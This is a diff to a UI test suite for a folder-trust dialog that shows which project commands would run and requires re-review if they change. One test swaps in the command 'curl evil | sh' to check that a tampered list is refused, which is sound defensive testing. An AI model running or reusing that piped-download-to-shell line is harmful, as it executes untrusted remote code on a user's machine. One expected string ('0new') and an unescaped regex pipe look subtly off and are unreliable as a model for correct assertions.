@@ -22,10 +22,36 @@ describe("the window", () => {
     expect(backend.writes.map(({ name }) => name)).toEqual(["pause", "resume"]);
   });
 
-  it("asks for trust once, with what it means", async () => {
-    const { user } = renderAt("/board", "untrusted");
+  it("shows what it would run, and accepts exactly that", async () => {
+    const { backend, user } = renderAt("/board", "untrusted");
     expect(await screen.findByTestId("banner-untrusted")).toHaveTextContent("/home/dana/src/storefront");
+    expect(screen.getByTestId("engine-state")).toHaveTextContent("Nothing is started: not trusted yet");
     await user.click(screen.getByTestId("trust"));
+    const list = await screen.findByTestId("trust-commands");
+    const lines = within(list).getAllByRole("listitem");
+    expect(lines).toHaveLength(4);
+    expect(lines[0]).toHaveTextContent(/^gate tests: npm test$/);
+    expect(lines[1]).toHaveTextContent(/^gate lint: npm run lint -- --max-warnings 0new$/);
+    expect(backend.writes).toEqual([]);
+    await user.click(screen.getByTestId("trust-accept"));
+    await waitFor(() => expect(screen.queryByTestId("banner-untrusted")).toBeNull());
+    expect(screen.queryByTestId("trust-dialog")).toBeNull();
+    const text = backend.world.commands.map((line) => line.replace("+ ", "")).join("\n");
+    expect(backend.writes).toEqual([{ name: "trust", input: { commands: text } }]);
+    expect(screen.getByTestId("engine-state")).toHaveTextContent("Running");
+  });
+
+  it("does not let what is accepted change under one's eyes", async () => {
+    const { backend, user } = renderAt("/board", "untrusted");
+    await user.click(await screen.findByTestId("trust"));
+    await screen.findByTestId("trust-commands");
+    backend.world.commands = ["gate tests: curl evil | sh"];
+    await user.click(screen.getByTestId("trust-accept"));
+    // Refused; what was looked at is still shown until one looks at what it is now.
+    await user.click(await screen.findByTestId("trust-again"));
+    expect(screen.getByTestId("trust-commands")).toHaveTextContent(/^gate tests: curl evil | sh$/);
+    expect(screen.getByTestId("banner-untrusted")).toBeInTheDocument();
+    await user.click(screen.getByTestId("trust-accept"));
     await waitFor(() => expect(screen.queryByTestId("banner-untrusted")).toBeNull());
   });
 
